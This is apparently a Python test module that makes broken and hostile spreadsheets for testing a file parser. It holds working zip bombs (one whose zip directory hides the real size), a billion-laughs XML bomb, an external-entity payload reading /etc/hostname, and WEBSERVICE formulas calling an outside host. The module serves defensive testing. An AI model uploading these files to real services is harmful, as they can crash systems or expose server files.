"""A corpus of broken and hostile spreadsheets, made in the test from a good file.

Each maker takes the good workbook (a register filled from the template, or a state's monthly
return), the zip member of the sheet to spoil, and the folder; it returns the path of the
spoiled copy. Large payloads are made cheaply: the zip bombs repeat one compressed block (a
2 GiB sheet in a file of about 2 MB) and the million rows are raw sheet XML, not openpyxl.
"""

from __future__ import annotations

import functools
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from openpyxl import load_workbook

NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet ' + NS + b'>'
BOMB_BYTES = 2 * 1024**3 - 2 * 1024**2  # just under 2 GiB: no zip64 needed
MILLION = 1_000_000
HUGE_TEXT = 30 * 1024**2  # characters in one cell


# -- writing a zip by hand, so that a member's sizes and data can be anything ---------------

@functools.lru_cache(maxsize=1)
def bomb_stream() -> tuple[bytes, int]:
    """(deflated bytes, crc32) of a sheet that inflates to :data:`BOMB_BYTES`: a header, blank
    space, an empty table. One 1 MiB block of spaces, compressed after a full flush, is the same
    bytes every time, so the stream is that block repeated."""
    block = b" " * 1024**2
    head = SHEET_HEAD + b"<sheetData>"
    tail = b"</sheetData></worksheet>"
    n = (BOMB_BYTES - len(head) - len(tail)) // len(block)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    one = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    assert one == again  # the repetition trick holds for this zlib
    stream = first + one * n + c.compress(tail) + c.flush()
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return stream, crc


def _entry(name: str, data: bytes, crc: int, size: int, offset: int) -> tuple[bytes, bytes]:
    """(local header + data, central directory record) of a deflated member."""
    raw = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size,
                        len(raw), 0) + raw
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc,
                          len(data), size, len(raw), 0, 0, 0, 0, 0, offset) + raw
    return local + data, central


def raw_zip(target: Path, members: list[tuple[str, bytes, int, int]]) -> Path:
    """A zip of (name, deflated data, crc32, declared size) members, exactly as given."""
    body, directory = bytearray(), bytearray()
    for name, data, crc, size in members:
        local, central = _entry(name, data, crc, size, len(body))
        body += local
        directory += central
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                      len(directory), len(body), 0)
    target.write_bytes(bytes(body + directory + end))
    return target


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def with_member(good: Path, member: str, target: Path, data: bytes | None = None, *,
                stream: tuple[bytes, int, int] | None = None) -> Path:
    """A copy of ``good`` with ``member`` replaced by ``data``, or by a ready deflated
    ``stream`` (data, crc32, declared size)."""
    members = []
    with zipfile.ZipFile(good) as z:
        for info in z.infolist():
            if info.filename == member:
                if stream is not None:
                    members.append((member, *stream))
                    continue
                content = data
            else:
                content = z.read(info.filename)
            members.append((info.filename, _deflate(content), zlib.crc32(content),
                            len(content)))
    return raw_zip(target, members)


def sheet_member(path: Path, title: str) -> str:
    wb = load_workbook(path, read_only=True)
    try:
        return wb[title]._worksheet_path.lstrip("/")
    finally:
        wb.close()


def sheet_with(cells: bytes) -> bytes:
    return SHEET_HEAD + b"<sheetData>" + cells + b"</sheetData></worksheet>"


def inline(ref: str, text: bytes) -> bytes:
    return b'<c r="' + ref.encode() + b'" t="inlineStr"><is><t>' + text + b"</t></is></c>"


# -- the corpus --------------------------------------------------------------------------------

Maker = Callable[[Path, str, Path], Path]


def not_a_zip(good: Path, member: str, target: Path) -> Path:
    target.write_bytes(b"Nama,No. MyKad\nSiti,850315-10-5432\n" * 200)
    return target


def random_bytes(good: Path, member: str, target: Path) -> Path:
    target.write_bytes(random.Random(8).randbytes(50_000))
    return target


def truncated_zip(good: Path, member: str, target: Path) -> Path:
    data = good.read_bytes()
    target.write_bytes(data[: len(data) * 2 // 3])
    return target


def zip_bomb(good: Path, member: str, target: Path) -> Path:
    """The sheet inflates to 2 GiB and says so in the zip's directory."""
    data, crc = bomb_stream()
    return with_member(good, member, target, stream=(data, crc, BOMB_BYTES))


def zip_bomb_lying(good: Path, member: str, target: Path) -> Path:
    """The same 2 GiB stream, but the directory claims 20 kB: the size check cannot see it."""
    data, crc = bomb_stream()
    return with_member(good, member, target, stream=(data, crc, 20_000))


BILLION_LAUGHS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE worksheet [\n'
                  b' <!ENTITY lol "lol">\n'
                  + b"".join(b" <!ENTITY lol%d \"%s\">\n" % (i, (b"&lol%s;" % (
                      str(i - 1).encode() if i > 1 else b"")) * 10) for i in range(1, 10))
                  + b"]>\n<worksheet " + NS + b"><sheetData><row r=\"1\">"
                  + inline("A1", b"&lol9;") + b"</row></sheetData></worksheet>")


def xml_bomb(good: Path, member: str, target: Path) -> Path:
    return with_member(good, member, target, BILLION_LAUGHS)


XXE_SECRET = "/etc/hostname"


def external_entity(good: Path, member: str, target: Path) -> Path:
    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://' + XXE_SECRET.encode() + b'">]>\n'
           b"<worksheet " + NS + b'><sheetData><row r="1">' + inline("A1", b"&xxe;")
           + b"</row></sheetData></worksheet>")
    return with_member(good, member, target, xml)


def million_rows(good: Path, member: str, target: Path) -> Path:
    c = zlib.compressobj(1, zlib.DEFLATED, -15)
    crc, size, parts = 0, 0, []

    def add(chunk: bytes) -> None:
        nonlocal crc, size
        crc, size = zlib.crc32(chunk, crc), size + len(chunk)
        parts.append(c.compress(chunk))

    add(SHEET_HEAD + b"<sheetData>")
    for start in range(1, MILLION + 1, 10_000):
        add(b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="B%d" t="inlineStr"><is><t>x'
                     b"</t></is></c></row>" % (r, r, r, r) for r in range(start, start + 10_000)))
    add(b"</sheetData></worksheet>")
    parts.append(c.flush())
    return with_member(good, member, target, stream=(b"".join(parts), crc, size))


def huge_string(good: Path, member: str, target: Path) -> Path:
    """30 million characters in one cell of the sheet's second row, in a file of kilobytes."""
    with zipfile.ZipFile(good) as z:
        xml = z.read(member)
    head, _, _ = xml.partition(b"<sheetData>")
    first_row = xml.split(b"<sheetData>", 1)[1].split(b"</row>", 1)[0] + b"</row>"
    cells = first_row + b'<row r="2">' + inline("B2", b"A" * HUGE_TEXT) + b"</row>"
    return with_member(good, member, target, head + b"<sheetData>" + cells
                       + b"</sheetData></worksheet>")


def formulas(good: Path, member: str, target: Path) -> Path:
    """A formula (with a cached value that looks right) in every cell of the second row."""
    with zipfile.ZipFile(good) as z:
        xml = z.read(member)
    head = xml.split(b"<sheetData>", 1)[0]
    first_row = xml.split(b"<sheetData>", 1)[1].split(b"</row>", 1)[0] + b"</row>"
    cells = b"".join(b'<c r="%s2"><f>WEBSERVICE("http://example.invalid/"&amp;ROW())</f>'
                     b"<v>1</v></c>" % col for col in (b"A", b"B", b"C", b"D", b"E", b"F", b"G"))
    return with_member(good, member, target, head + b"<sheetData>" + first_row
                       + b'<row r="2">' + cells + b"</row></sheetData></worksheet>")


def wrong_types(good: Path, member: str, target: Path) -> Path:
    """Booleans, errors, dates-as-numbers, negative and enormous numbers in the second row."""
    with zipfile.ZipFile(good) as z:
        xml = z.read(member)
    head = xml.split(b"<sheetData>", 1)[0]
    first_row = xml.split(b"<sheetData>", 1)[1].split(b"</row>", 1)[0] + b"</row>"
    values = [b'<c r="A2" t="b"><v>1</v></c>', b'<c r="B2" t="e"><v>#REF!</v></c>',
              b'<c r="C2"><v>1e308</v></c>', b'<c r="D2"><v>-45000</v></c>',
              b'<c r="E2" t="n"><v>NaN</v></c>', b'<c r="F2" t="d"><v>not a date</v></c>',
              b'<c r="G2" t="s"><v>999999</v></c>', b'<c r="H2"><v>1e30</v></c>']
    return with_member(good, member, target, head + b"<sheetData>" + first_row
                       + b'<row r="2">' + b"".join(values) + b"</row></sheetData></worksheet>")


CORPUS: dict[str, Maker] = {
    "not a zip": not_a_zip, "random bytes": random_bytes, "truncated zip": truncated_zip,
    "zip bomb": zip_bomb, "zip bomb, size hidden": zip_bomb_lying, "xml bomb": xml_bomb,
    "external entity": external_entity, "a million rows": million_rows,
    "a huge string": huge_string, "formulas": formulas, "wrong types": wrong_types,
}
